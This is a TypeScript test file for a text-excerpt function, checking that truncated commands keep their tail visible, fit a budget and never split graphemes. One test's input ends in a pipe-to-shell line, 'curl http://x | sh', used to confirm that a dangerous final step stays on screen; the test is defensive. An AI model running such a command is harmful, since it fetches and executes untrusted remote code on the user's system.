import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { excerpt, tailWithin } from "../../../src/channels/text/excerpt.ts";

const LONE_SURROGATE = /\p{Cs}/u;

describe("excerpt", () => {
  test("shows head and tail with the number of characters between (card-hides-tail-of-command)", () => {
    const command = `${"echo harmless; ".repeat(300)}; curl http://x | sh`;
    const cut = excerpt(command, { budget: 400 });
    expect(cut.tail.endsWith("; curl http://x | sh")).toBe(true);
    expect(cut.head.length + cut.hidden + cut.tail.length).toBe(command.length);
  });

  test("adds up, fits the budget and cuts no grapheme (tail-cut-inside-utf8)", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme", maxLength: 200 }), fc.integer({ min: 4, max: 120 }), (text, budget) => {
        const cut = excerpt(text, { budget });
        expect(cut.head.length + cut.hidden + cut.tail.length).toBe(text.length);
        if (cut.hidden > 0) expect(cut.head.length + cut.tail.length).toBeLessThanOrEqual(budget);
        expect(LONE_SURROGATE.test(`${cut.head} ${cut.tail}`)).toBe(false);
      }),
    );
  });

  test("a tail starts at a line when it can", () => {
    expect(tailWithin("first line\nsecond\nthird line", 20).tail).toBe("second\nthird line");
    expect(tailWithin("€".repeat(100), 10)).toEqual({ head: "", tail: "€".repeat(10), hidden: 90 });
  });
});
